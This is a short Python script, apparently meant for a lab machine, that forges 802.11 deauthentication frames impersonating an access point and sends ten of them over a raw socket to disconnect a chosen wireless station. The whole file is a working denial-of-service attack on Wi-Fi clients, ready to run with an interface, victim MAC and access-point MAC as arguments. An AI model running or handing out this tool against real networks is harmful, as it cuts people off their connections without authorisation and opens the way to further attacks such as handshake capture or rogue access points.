"""Runs in the machine: send forged deauthentication frames as an access point. INTERFACE STATION ACCESS_POINT."""

import socket
import struct
import sys
import time

RADIOTAP = bytes((0, 0, 8, 0, 0, 0, 0, 0))
DEAUTHENTICATION, REASON_LEAVING = 0xC0, 3


def address(text: str) -> bytes:
    """Return a MAC address as bytes."""
    return bytes.fromhex(text.replace(":", ""))


def main() -> None:
    """Send ten of them."""
    interface, station, access_point = sys.argv[1:]
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((interface, 0))
    for number in range(10):
        head = struct.pack("<HH", DEAUTHENTICATION, 0x013A) + address(station) + address(access_point) * 2
        link.send(RADIOTAP + head + struct.pack("<HH", number << 4, REASON_LEAVING))
        time.sleep(0.05)


main()
